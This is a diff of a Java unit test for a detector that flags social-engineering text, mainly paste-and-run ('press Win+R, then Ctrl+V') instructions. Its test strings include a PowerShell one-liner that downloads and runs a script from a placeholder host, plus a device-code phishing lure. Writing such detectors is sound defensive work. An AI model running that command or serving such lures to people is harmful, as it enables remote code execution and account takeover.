@@ -191,9 +191,9 @@ class UserExecutionAnalyzerTest {
         assertThat(analyze("Attackers send invitations that say: go to microsoft.com/devicelogin and enter the code GK7X-QM2L."
             + " Report such mail.")).isEmpty();
         assertThat(analyze("Threat actors paste iex (iwr 'https://x.example/a.ps1') into victims' consoles.")).isEmpty();
-        assertThat(UserExecutionAnalyzer.toldOf("click \"fix\", then press win + r and ctrl + v", 14, 47))
+        assertThat(Warnings.toldOf("click \"fix\", then press win + r and ctrl + v", 14, 47, true))
             .as("a closed quotation before the instruction").isFalse();
-        assertThat(UserExecutionAnalyzer.toldOf("she wrote \u201cto verify, press win + r and ctrl + v\u201d", 22, 48)).isTrue();
+        assertThat(Warnings.toldOf("she wrote \u201cto verify, press win + r and ctrl + v\u201d", 22, 48, true)).isTrue();
         assertThat(rules(analyze("To verify, press \"Windows + R\", then \"Ctrl + V\" and Enter."))).as("keys styled in quotes")
             .containsExactly("text.paste-and-run");
     }
